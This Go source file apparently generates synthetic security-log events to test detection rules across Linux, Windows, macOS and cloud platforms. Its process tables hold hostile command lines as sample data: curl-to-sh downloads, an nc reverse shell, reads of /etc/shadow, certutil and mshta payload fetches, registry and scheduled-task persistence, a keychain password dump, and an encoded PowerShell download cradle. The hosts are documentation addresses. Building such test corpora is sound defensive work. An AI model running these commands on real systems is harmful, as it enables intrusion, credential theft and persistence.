package detectcorpus

import (
	"encoding/base64"
	"fmt"
	"hash/fnv"
	"math/rand/v2"
	"strings"
	"time"
	"unicode/utf16"
)

// platform is the kind of system a rule watches, which picks the values of
// its firings.
type platform int

const (
	linux platform = iota
	windows
	macos
	kubernetes
	aws
	gcp
	azure
	okta
	github
	network
)

func platformOf(r Rule) platform {
	ls := r.LogSource
	if ls.Product == "panther" {
		return pantherPlatform(ls.Service)
	}
	switch ls.Service {
	case "k8s_audit":
		return kubernetes
	case "aws_cloudtrail":
		return aws
	case "gcp_auditlog":
		return gcp
	case "okta":
		return okta
	case "github":
		return github
	case "syscall":
		return linux
	}
	switch ls.Product {
	case "windows":
		return windows
	case "linux":
		return linux
	case "macos":
		return macos
	case "kubernetes":
		return kubernetes
	case "aws":
		return aws
	case "gcp":
		return gcp
	case "azure", "m365":
		return azure
	case "okta":
		return okta
	case "github":
		return github
	}
	return network
}

// pantherPlatform is the platform of a Panther log type, by its vendor.
func pantherPlatform(logType string) platform {
	vendor, _, _ := strings.Cut(strings.ToLower(logType), ".")
	switch vendor {
	case "aws", "amazon":
		if strings.Contains(strings.ToLower(logType), "eks") {
			return kubernetes
		}
		return aws
	case "gcp":
		if strings.Contains(strings.ToLower(logType), "k8s") {
			return kubernetes
		}
		return gcp
	case "azure", "microsoft365", "microsoftgraph", "azuread", "microsoft":
		return azure
	case "okta", "onelogin", "auth0", "duo", "gsuite", "zoom", "slack", "box", "dropbox", "notion", "asana", "zendesk", "salesforce", "snowflake", "databricks", "anthropic", "openai", "tines", "docusign", "onepassword", "mongodb", "axonius":
		return okta
	case "github", "gitlab", "snyk":
		return github
	case "kubernetes":
		return kubernetes
	case "crowdstrike", "osquery", "carbonblack", "sentinelone", "gravitational", "push":
		return linux
	}
	return network
}

// event is what one firing observed. Its values depend only on the seed,
// the rule's key and the firing's number, never on the delivery form.
type event struct {
	n           int
	plat        platform
	time        time.Time
	host        string
	user        string
	uid         int
	pid, ppid   int
	proc, exe   string
	cmdline     string
	pproc, pexe string
	pcmdline    string
	file        string
	container   bool
	containerID string
	ctrName     string
	image, tag  string
	namespace   string
	pod         string
	srcIP       string
	srcPort     int
	dstIP       string
	dstPort     int
	account     string
	region      string
	project     string
	email       string
	country     string
	repo        string
}

var (
	linuxUsers   = []string{"root", "www-data", "ubuntu", "ec2-user", "postgres", "nginx", "jenkins", "deploy", "alice", "bob"}
	windowsUsers = []string{"Administrator", "SYSTEM", "jdoe", "svc_sql", "alice.martin", "backup_svc", "helpdesk01"}
	people       = []string{"alice", "bob", "carol.ng", "dmitri", "erin.walsh", "farah", "git-bot", "ops-admin"}
	domains      = []string{"corp.example", "example.org", "acme.example"}
	countries    = []string{"United States", "Germany", "Brazil", "Netherlands", "Singapore", "Romania"}
	regions      = []string{"us-east-1", "us-west-2", "eu-west-1", "eu-central-1", "ap-southeast-2"}
	namespaces   = []string{"default", "payments", "shop", "kube-system", "monitoring", "ci"}
	images       = []struct{ repo, tag string }{
		{"docker.io/library/nginx", "1.27"}, {"docker.io/library/alpine", "3.20"}, {"ghcr.io/acme/checkout-api", "v2.14.1"},
		{"docker.io/library/postgres", "16"}, {"quay.io/prometheus/node-exporter", "v1.8.2"}, {"docker.io/library/python", "3.12-slim"},
	}
	linuxProcs = []struct{ name, exe, cmd, parent string }{
		{"bash", "/usr/bin/bash", "bash -c curl -s http://%s/x.sh | sh", "sshd"},
		{"sh", "/bin/sh", "sh -c cat /etc/shadow", "nginx"},
		{"python3", "/usr/bin/python3.11", "python3 -c import pty;pty.spawn(\"/bin/sh\")", "bash"},
		{"curl", "/usr/bin/curl", "curl -fsSL http://%s:8080/payload -o /tmp/.x", "bash"},
		{"nc", "/usr/bin/nc", "nc -e /bin/sh %s 4444", "sh"},
		{"cat", "/usr/bin/cat", "cat /etc/shadow", "bash"},
		{"mount", "/usr/bin/mount", "mount /dev/sda1 /mnt/host", "bash"},
		{"kubectl", "/usr/local/bin/kubectl", "kubectl exec -it web-0 -- sh", "zsh"},
		{"java", "/opt/java/openjdk/bin/java", "java -jar /app/service.jar", "containerd-shim"},
		{"node", "/usr/local/bin/node", "node /srv/app/index.js", "npm"},
	}
	windowsProcs = []struct{ name, exe, cmd, parent string }{
		{"powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe -NoP -W Hidden -Enc %s", "cmd.exe"},
		{"cmd.exe", `C:\Windows\System32\cmd.exe`, `cmd.exe /c whoami /all > C:\Users\Public\o.txt`, "explorer.exe"},
		{"rundll32.exe", `C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Users\Public\t.dll,DllRegisterServer`, "winword.exe"},
		{"reg.exe", `C:\Windows\System32\reg.exe`, `reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d C:\Users\Public\u.exe /f`, "cmd.exe"},
		{"certutil.exe", `C:\Windows\System32\certutil.exe`, "certutil.exe -urlcache -split -f http://%s/a.exe a.exe", "cmd.exe"},
		{"wmic.exe", `C:\Windows\System32\wbem\WMIC.exe`, "wmic.exe process call create calc.exe", "powershell.exe"},
		{"schtasks.exe", `C:\Windows\System32\schtasks.exe`, `schtasks.exe /create /tn Updater /tr C:\ProgramData\u.exe /sc onlogon`, "cmd.exe"},
		{"mshta.exe", `C:\Windows\System32\mshta.exe`, "mshta.exe http://%s/run.hta", "outlook.exe"},
	}
	macProcs = []struct{ name, exe, cmd, parent string }{
		{"osascript", "/usr/bin/osascript", `osascript -e display dialog "Update" default answer ""`, "bash"},
		{"curl", "/usr/bin/curl", "curl -s http://%s/m -o /tmp/m", "zsh"},
		{"security", "/usr/bin/security", "security find-generic-password -wa Chrome", "zsh"},
	}
)

// newEvent draws the event of firing n of rule r.
func newEvent(r Rule, n int, seed int64) *event {
	h := fnv.New64a()
	h.Write([]byte(r.Key()))
	rng := rand.New(rand.NewPCG(uint64(seed), h.Sum64()^uint64(n)*0x9e3779b97f4a7c15))
	e := &event{n: n, plat: platformOf(r)}
	base := time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC)
	e.time = base.Add(time.Duration(n)*47*time.Minute + time.Duration(rng.Int64N(int64(40*time.Minute))))
	e.srcIP = publicIP(rng)
	e.srcPort = 1024 + rng.IntN(64000)
	e.dstIP = privateIP(rng)
	e.dstPort = []int{22, 80, 443, 445, 3389, 4444, 5432, 6443, 8080}[rng.IntN(9)]
	e.pid = 1000 + rng.IntN(60000)
	e.ppid = 1 + rng.IntN(e.pid-1)
	e.account = fmt.Sprintf("%012d", rng.Int64N(1e12))
	e.region = regions[rng.IntN(len(regions))]
	e.project = []string{"acme-prod", "acme-staging", "data-platform-7731", "shop-analytics"}[rng.IntN(4)]
	person := people[rng.IntN(len(people))]
	e.email = person + "@" + domains[rng.IntN(len(domains))]
	e.country = countries[rng.IntN(len(countries))]
	e.repo = []string{"acme/payments", "acme/infra", "acme/web", "acme/ml-models"}[rng.IntN(4)]
	e.namespace = namespaces[rng.IntN(len(namespaces))]
	img := images[rng.IntN(len(images))]
	e.image, e.tag = img.repo, img.tag
	app := img.repo[strings.LastIndexByte(img.repo, '/')+1:]
	// A Deployment's pod: its ReplicaSet hash and pod suffix, written in
	// Kubernetes' vowel-free alphabet as real pod names are.
	e.pod = fmt.Sprintf("%s-%s-%s", app, podHash(rng, 10), podHash(rng, 5))
	e.ctrName = app
	switch e.plat {
	case windows:
		e.host = []string{"WIN-", "DESKTOP-", "LAPTOP-"}[rng.IntN(3)] + strings.ToUpper(hexString(rng, 7))
		if rng.IntN(3) == 0 {
			e.host = fmt.Sprintf("CORP-DC%02d.corp.example", 1+rng.IntN(12))
		}
		e.user = windowsUsers[rng.IntN(len(windowsUsers))]
		p := windowsProcs[rng.IntN(len(windowsProcs))]
		e.proc, e.exe, e.pproc = p.name, p.exe, p.parent
		e.cmdline = fill(p.cmd, e, rng)
		e.pexe = `C:\Windows\System32\` + p.parent
		e.pcmdline = p.parent
		e.file = fmt.Sprintf(`C:\Users\%s\AppData\Local\Temp\%s.tmp`, e.user, hexString(rng, 8))
	case macos:
		e.host = fmt.Sprintf("%s%ss-MacBook-Pro-%d.local", strings.ToUpper(person[:1]), person[1:], 1+rng.IntN(9))
		e.user = person
		p := macProcs[rng.IntN(len(macProcs))]
		e.proc, e.exe, e.pproc = p.name, p.exe, p.parent
		e.cmdline = fill(p.cmd, e, rng)
		e.pexe, e.pcmdline = "/bin/"+p.parent, p.parent
		e.file = "/Users/" + person + "/Library/LaunchAgents/com.update." + hexString(rng, 6) + ".plist"
	default:
		switch rng.IntN(4) {
		case 0:
			e.host = fmt.Sprintf("ip-10-%d-%d-%d.%s.compute.internal", rng.IntN(256), rng.IntN(256), rng.IntN(256), e.region)
		case 1:
			e.host = fmt.Sprintf("worker-%d.prod.k8s.local", 1+rng.IntN(40))
		case 2:
			e.host = fmt.Sprintf("web-%02d", 1+rng.IntN(30))
		default:
			e.host = fmt.Sprintf("gke-main-pool-%s-%s", hexString(rng, 8), hexString(rng, 4))
		}
		e.user = linuxUsers[rng.IntN(len(linuxUsers))]
		if e.user == "root" {
			e.uid = 0
		} else {
			e.uid = 1000 + rng.IntN(500)
		}
		p := linuxProcs[rng.IntN(len(linuxProcs))]
		e.proc, e.exe, e.pproc = p.name, p.exe, p.parent
		e.cmdline = fill(p.cmd, e, rng)
		e.pexe, e.pcmdline = "/usr/sbin/"+p.parent, p.parent
		e.file = []string{"/etc/shadow", "/etc/sudoers", "/root/.ssh/authorized_keys", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/dev/shm/.x", "/tmp/" + hexString(rng, 6)}[rng.IntN(6)]
		e.container = r.LogSource.Service == "syscall" && rng.IntN(3) != 0
		if e.container {
			e.containerID = hexString(rng, 12)
		}
	}
	if e.plat == kubernetes {
		e.user = []string{"system:serviceaccount:" + e.namespace + ":default", e.email, "system:anonymous", "kubernetes-admin"}[rng.IntN(4)]
	}
	return e
}

// fill puts the event's remote address into a command template.
func fill(cmd string, e *event, rng *rand.Rand) string {
	if !strings.Contains(cmd, "%s") {
		return cmd
	}
	if strings.Contains(cmd, "-Enc") {
		script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('http://%s/%s')", e.srcIP, hexString(rng, 4))
		u := utf16.Encode([]rune(script))
		b := make([]byte, 2*len(u))
		for i, c := range u {
			b[2*i], b[2*i+1] = byte(c), byte(c>>8)
		}
		return fmt.Sprintf(cmd, base64.StdEncoding.EncodeToString(b))
	}
	return fmt.Sprintf(cmd, e.srcIP)
}

func hexString(rng *rand.Rand, n int) string {
	const hexdigits = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = hexdigits[rng.IntN(16)]
	}
	return string(b)
}

// publicIP draws an address from the documentation ranges (RFC 5737).
func publicIP(rng *rand.Rand) string {
	return fmt.Sprintf("%s.%d", []string{"192.0.2", "198.51.100", "203.0.113"}[rng.IntN(3)], 1+rng.IntN(254))
}

func privateIP(rng *rand.Rand) string {
	if rng.IntN(2) == 0 {
		return fmt.Sprintf("10.%d.%d.%d", rng.IntN(256), rng.IntN(256), 1+rng.IntN(254))
	}
	return fmt.Sprintf("172.%d.%d.%d", 16+rng.IntN(16), rng.IntN(256), 1+rng.IntN(254))
}

// uuidOf returns a UUID-shaped id (version 4 layout) drawn from a name, so
// that the same name always gets the same id.
func uuidOf(parts ...string) string {
	h1, h2 := fnv.New64a(), fnv.New64()
	for _, p := range parts {
		h1.Write([]byte(p))
		h1.Write([]byte{0})
		h2.Write([]byte(p))
		h2.Write([]byte{0})
	}
	a, b := h1.Sum64(), h2.Sum64()
	a = a&^(0xf<<12) | 0x4<<12
	b = b&^(0x3<<62) | 0x2<<62
	return fmt.Sprintf("%08x-%04x-%04x-%04x-%012x", a>>32, a>>16&0xffff, a&0xffff, b>>48, b&0xffffffffffff)
}

// podAlphabet is the alphabet Kubernetes writes pod-name hashes in.
const podAlphabet = "bcdfghjklmnpqrstvwxz2456789"

// podHash returns n characters of a pod-name hash.
func podHash(rng *rand.Rand, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = podAlphabet[rng.IntN(len(podAlphabet))]
	}
	return string(b)
}
